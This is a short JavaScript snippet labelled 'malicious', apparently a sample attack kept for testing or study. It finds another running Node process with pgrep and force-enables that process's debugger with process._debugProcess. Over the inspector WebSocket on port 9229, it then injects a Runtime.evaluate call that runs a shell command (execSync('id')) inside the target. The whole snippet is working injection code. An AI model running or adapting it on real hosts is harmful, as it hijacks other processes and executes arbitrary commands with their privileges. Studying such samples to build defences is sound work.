// malicious: runs code in another node process
const { execSync } = require('child_process');
const pid = execSync('pgrep -o node').toString().trim();
process._debugProcess(Number(pid));
const ws = new WebSocket('ws://127.0.0.1:9229/x');
ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: 'process.mainModule.require("child_process").execSync("id")' } }));
